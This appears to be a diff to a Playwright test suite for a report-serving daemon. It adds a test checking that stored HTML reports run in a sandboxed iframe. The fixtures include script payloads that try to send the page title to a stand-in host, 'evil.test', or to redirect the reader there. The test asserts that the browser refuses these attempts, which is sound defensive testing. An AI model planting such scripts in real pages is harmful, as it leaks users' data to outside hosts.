@@ -84,8 +84,37 @@ def test_a_report_opens_in_its_sandbox(daemon: Daemon, browser: Browser) -> None
     with opened(browser) as page:
         page.goto(f"{daemon.url}/reports")
         page.get_by_role("link", name="weekly").click()
-        expect(page.locator("#ran")).to_have_text("a report ran")
-        assert page.evaluate("origin") == "null", "nothing of ours is within reach"
+        framed = page.frame_locator("iframe")
+        expect(framed.locator("#ran")).to_have_text("a report ran")
+        assert page.frames[1].evaluate("origin") == "null", "nothing of ours is within reach"
+
+
+@pytest.mark.parametrize(
+    "script",
+    ["location = 'http://evil.test/?' + document.title", "top.location = 'http://evil.test/'", "open('//evil.test')"],
+)
+def test_a_report_leads_its_reader_nowhere(daemon: Daemon, browser: Browser, script: str) -> None:
+    import gzip
+
+    engine = open_engine(f"sqlite:///{daemon.folder / 'watchkeeper.db'}")
+    html = f"<!doctype html><title>r</title><p id=ran>no<script>ran.textContent = 'ran'; {script}</script>".encode()
+    id = f"e{sum(script.encode())}"
+    reports.add(engine, reports.StoredReport(id, "parcels", "weekly", START, START + HOUR, START), gzip.compress(html))
+    engine.dispose()
+    page = browser.new_page()
+    asked: list[str] = []
+    refused: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.on("console", lambda message: refused.append(message.text))
+    page.on("pageerror", lambda error: refused.append(str(error)))
+    for address in (f"/reports/{id}", f"/reports/{id}?framed=1"):
+        refused.clear()
+        with page.expect_event("console" if "top" not in script else "pageerror"):
+            page.goto(daemon.url + address)
+        assert page.url == daemon.url + address
+        assert refused, "the browser says that it was refused"
+    page.close()
+    assert not [url for url in asked if "evil" in url], "nothing was asked of the other place"
 
 
 def test_it_stays_fresh_by_itself(daemon: Daemon, browser: Browser) -> None:
